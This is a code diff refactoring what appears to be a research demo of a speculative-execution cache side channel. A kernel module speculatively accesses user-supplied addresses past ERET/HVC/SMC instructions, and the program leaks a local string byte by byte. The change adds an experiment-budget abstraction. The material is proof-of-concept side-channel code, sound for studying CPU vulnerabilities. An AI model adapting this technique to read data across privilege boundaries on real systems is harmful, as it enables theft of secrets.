@@ -50,6 +50,7 @@
 #include <iostream>
 
 #include "cache_sidechannel.h"
+#include "experiment.h"
 #include "instr.h"
 #include "local_content.h"
 #include "utils.h"
@@ -58,10 +59,12 @@
 // Writes userspace addresses into a SYSFS file while the kernel handler
 // accesses those adresses speculatively after it speculates over ERET, HVC and
 // SMC instructions.
-static char LeakByte(const char *data, size_t offset) {
-  CacheSideChannel sidechannel;
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel,
+                                  const char *data, size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
 
-  for (int run = 0;; ++run) {
+  return RunExperiment(sidechannel, budget, [&](int /* run */) {
     std::ofstream out("/proc/safeside_eret_hvc_smc/address");
     if (out.fail()) {
       std::cerr << "Eret_hvc_smc module not loaded or not running as root."
@@ -77,21 +80,20 @@ static char LeakByte(const char *data, size_t offset) {
         sidechannel.GetOracle().data() + static_cast<size_t>(data[offset]));
     out.close();
 
-    std::pair<bool, char> result = sidechannel.AddHitAndRecomputeScores();
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
-    }
-  }
+    return sidechannel.AddHitAndRecomputeScores();
+  });
 }
 
 int main() {
+  CacheSideChannel sidechannel;
   for (size_t i = 0; i < strlen(private_data); ++i) {
-    std::cout << LeakByte(private_data, i);
+    ExperimentOutcome outcome = LeakByte(sidechannel, private_data, i,
+                                         ExperimentBudget());
+    if (!outcome.converged) {
+      std::cerr << "Does not converge " << outcome.value << std::endl;
+      exit(EXIT_FAILURE);
+    }
+    std::cout << outcome.value;
     std::cout.flush();
   }
   std::cout << "\nDone!\n";